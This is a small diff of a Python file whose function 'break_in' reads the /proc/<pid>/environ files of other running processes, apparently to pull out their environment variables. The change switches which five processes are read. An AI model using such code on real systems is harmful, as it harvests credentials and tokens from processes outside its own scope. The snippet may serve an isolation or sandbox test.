@@ -5,7 +5,7 @@ import os
 
 def break_in():
     others = [each for each in os.listdir("/proc") if each.isdigit() and int(each) not in (1, os.getpid())]
-    return [open(f"/proc/{each}/environ").read() for each in others[:5]]
+    return [open(f"/proc/{each}/environ").read() for each in others[-5:]]
 
 
 try:
